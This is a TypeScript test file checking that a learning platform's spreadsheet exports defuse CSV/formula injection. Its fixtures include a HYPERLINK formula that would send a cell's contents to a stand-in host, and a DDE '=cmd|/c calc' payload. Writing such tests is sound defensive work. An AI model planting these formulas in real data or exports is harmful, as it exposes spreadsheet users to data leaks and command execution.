import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  memberRedeemEpmHeaders,
  type memberRedeemHeaders,
} from '@ajar/shared/exports/exports.constants';
import { buildFeedback, buildTypedActivity, downloadSheet } from '../../test/factories/exports';
import { buildMember, buildRedeem } from '../../test/factories/participants';
import { buildProgram, buildTopics } from '../../test/factories/programs';
import { signedIn } from '../../test/factories/users';
import { createTestApp, type TestApp } from '../../test/test-app';

const hyperlink = '=HYPERLINK("http://contoh.test/curi?d="&A1,"Klik di sini")';

/**
 * OWASP CSV injection: a text cell that a spreadsheet would read as a formula once the
 * file is saved as CSV starts with an apostrophe; numbers and dates keep their type.
 */
describe('exports neutralise formula-like text', () => {
  let t: TestApp;
  let admin: { authorization: string };
  beforeAll(async () => {
    t = await createTestApp();
    admin = (await signedIn(t.db, 'admin')).headers;
  });
  afterAll(() => t.close());

  async function exported(kind: 'member_redeem' | 'member_redeem_epm', programId: string) {
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/users/v1/export/${kind}?limit=-1`,
      headers: admin,
      payload: { id: [programId] },
    });
    expect(res.statusCode, res.body).toBe(200);
    return (await downloadSheet(t.app, res.json().data.public_url)).rows;
  }

  it('a participant named =HYPERLINK(…) comes out as text with a leading apostrophe', async () => {
    const program = await buildProgram(t.db, { status: 'publish', title: '+SUM(1;1)' });
    const member = await buildMember(t.db, { fullname: hyperlink, phone: '+6281200001111' });
    await buildRedeem(t.db, program.id, {
      memberId: member.id,
      pmo_code: '@cmd',
      progress: 100,
      start_test_at: new Date('2026-03-02T01:00:00Z'),
    });
    const [header, row] = await exported('member_redeem', program.id);
    const cell = (name: (typeof memberRedeemHeaders)[number]) => row![header!.indexOf(name)];
    expect(cell('Nama Peserta')).toBe(`'${hyperlink}`);
    expect(cell('Program')).toBe("'+SUM(1;1)");
    expect(cell('Kode Redeem')).toBe("'@cmd");
    // A telephone number is a number written with its sign, not a formula.
    expect(cell('Nomor Whatsapp')).toBe('+6281200001111');
    expect(cell('No')).toBe(1);
    expect(cell('Progress (%)')).toBe(100);
    expect(cell('Tanggal Mulai')).toBeInstanceOf(Date);
  });

  it('feedback text starting with -, a tab or a carriage return is neutralised too', async () => {
    const program = await buildProgram(t.db, { status: 'publish' });
    const [topic] = await buildTopics(t.db, program.id, 1);
    const task = await buildTypedActivity(t.db, topic!, 'praktek_mandiri', 1);
    const skills = await buildTypedActivity(t.db, topic!, 'evaluasi_praktek_mandiri', 2);
    const member = await buildMember(t.db, { fullname: '\t=1+1' });
    const redeem = await buildRedeem(t.db, program.id, { memberId: member.id });
    await buildFeedback(t.db, redeem, task, { score: 85, text: '-2+3' });
    await buildFeedback(t.db, redeem, skills, { score: 70, text: '\r=cmd|"/c calc"!A1' });
    const [header, row] = await exported('member_redeem_epm', program.id);
    const lead = memberRedeemEpmHeaders.length;
    expect(row![header!.indexOf('Nama Peserta')]).toBe("'\t=1+1");
    expect(row!.slice(lead, lead + 3)).toEqual([85, "'-2+3", 70]);
    // The XML of the sheet reads a carriage return back as a line feed; the apostrophe leads.
    expect(row![lead + 3]).toMatch(/^'\s=cmd\|"\/c calc"!A1$/);
  });
});
